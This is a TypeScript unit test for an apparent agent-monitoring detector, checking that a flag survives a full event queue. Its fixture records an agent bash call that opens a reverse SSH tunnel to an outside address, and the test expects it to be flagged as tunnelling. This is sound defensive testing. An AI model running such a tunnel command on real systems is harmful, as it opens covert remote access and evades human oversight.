// What the keeper does when the writer has no room: with a stand-in for the pipeline, because a full queue cannot be had on demand.
import { describe, expect, it } from 'vitest'
import { keepDetection } from './detection-keeper.ts'
import { emptyState } from './model/state.ts'
import { loadRules, loadShellReader, ownRulesFolder } from './open-detection.ts'
import { type Announcement, OverloadedError, type Pipeline } from './pipeline.ts'
import type { EventInput, StoredEvent } from './protocol/event.ts'
import type { EventId, SessionId } from './protocol/ids.ts'

const tunnel: StoredEvent = {
  v: 1,
  kind: 'action.started',
  id: '00000000-0000-4000-8000-000000000001' as EventId,
  partition: 1,
  seq: 1,
  atMs: 1_790_000_000_000,
  seenAtMs: 1_790_000_000_100,
  trust: 'agent',
  session: 'ep-1' as SessionId,
  data: {
    call: 'c1',
    tool: 'bash',
    input: JSON.stringify({ command: 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40' }),
  },
}

describe('a flag while the queue is full', () => {
  it('waits and is written once there is room, instead of being lost', async () => {
    const listeners: ((announcement: Announcement) => void)[] = []
    const written: EventInput[] = []
    const problems: string[] = []
    let refusals = 0
    const pipeline = {
      state: emptyState(),
      onCommit: (listener: (announcement: Announcement) => void) => listeners.push(listener),
      async submit({ events }: { events: readonly EventInput[] }) {
        if (refusals < 2) {
          refusals += 1
          throw new OverloadedError('full')
        }
        written.push(...events)
        return { accepted: events.length, duplicates: 0, rejected: [], headSeq: 2 }
      },
    } as unknown as Pipeline
    const { ruleSet } = loadRules([ownRulesFolder])
    const keeper = keepDetection({
      pipeline,
      ruleSet,
      readShell: await loadShellReader(),
      headSeq: 0,
      rulesSinceMs: 0,
      readLog: async () => [],
      nowMs: () => 1_790_000_000_200,
      onError: (context, error) => problems.push(`${context}: ${error}`),
    })
    await keeper.settled()
    const touched = { sessions: new Set<SessionId>(), hosts: new Set<never>(), removed: [], fleet: false }
    for (const listener of listeners) listener({ events: [tunnel], touched })
    await keeper.settled()
    await keeper.close()
    expect(refusals).toBe(2)
    expect(written[0]).toMatchObject({
      kind: 'flag.raised',
      session: 'ep-1',
      data: { behaviour: 'tunnel', call: 'c1' },
    })
    expect(problems).toEqual([])
  })
})
